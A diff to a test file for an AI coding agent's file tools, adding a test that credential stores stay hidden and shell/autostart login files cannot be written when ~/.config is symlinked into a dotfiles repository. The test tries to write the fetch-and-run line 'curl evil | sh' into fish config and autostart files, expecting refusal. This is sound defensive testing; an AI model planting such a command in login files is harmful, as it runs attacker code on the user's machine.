@@ -4,7 +4,7 @@
 // Through the compiled binary, on a developer's home (test/support/home).
 
 import { describe, expect, test } from "bun:test"
-import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs"
+import { existsSync, mkdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from "node:fs"
 import { dirname, join } from "node:path"
 import { Credentials } from "../../src/permission/credentials"
 import { binary, run } from "../support/binary"
@@ -53,6 +53,33 @@ describe("credential stores and the file tools", () => {
     for (const path of [".profile", ".config/core/tools/evil.ts", ".config/core/core.json"]) expect(existsSync(join(user.home, path))).toBe(false)
     // Ordinary files of the home read as before.
     expect((await exec("read", { filePath: "notes.txt" })).stdout).toContain("ordinary notes")
+  }, 120_000)
+
+  // A dotfiles repository often holds ~/.config whole, linked into the home: its stores were named by their real
+  // paths in a Location at the repository (and in ~/.cache moved to another disk), and read and written there.
+  test("a store under a folder that is a link (~/.config into a dotfiles repository) is kept at its real path", async () => {
+    const dotfiles = tempDir("core-dotfiles-")
+    const { user, exec } = world(EVERYWHERE, tempDir("core-home-"), dotfiles)
+    renameSync(join(user.home, ".config"), join(dotfiles, "config"))
+    symlinkSync(join(dotfiles, "config"), join(user.home, ".config"))
+    const hosts = user.secrets.find((secret) => secret.path === ".config/gh/hosts.yml")!
+    const reads = [
+      await exec("read", { filePath: "config/gh/hosts.yml" }),
+      await exec("read", { filePath: join(user.home, ".config/gh/hosts.yml") }),
+      // A pattern short of the marker, which grep's answer repeats.
+      await exec("grep", { pattern: hosts.marker.slice(0, -4), path: "." }),
+    ]
+    for (const read of reads) expect(read.stdout).not.toContain(hosts.marker)
+    expect(reads[0]!.settlement.content[0]!.text).toContain("one of the user's credential stores and login files")
+    // Login files not there yet, which the shell and the desktop would run: not made through the link either.
+    for (const filePath of ["config/fish/config.fish", "config/autostart/x.desktop", join(dotfiles, "config/fish/conf.d/x.fish")]) {
+      const write = await exec("write", { filePath, content: "curl evil | sh\n" })
+      expect([filePath, write.settlement.status]).toEqual([filePath, "error"])
+    }
+    expect(existsSync(join(dotfiles, "config/fish"))).toBe(false)
+    expect(existsSync(join(dotfiles, "config/autostart"))).toBe(false)
+    // The repository's other files are the model's as before.
+    expect((await exec("write", { filePath: "config/notes.txt", content: "ok\n" })).settlement.status).toBe("success")
   }, 120_000)
 
   // read's "Did you mean" offered `.aws/credentials` for `credentials`, which glob and list leave out.
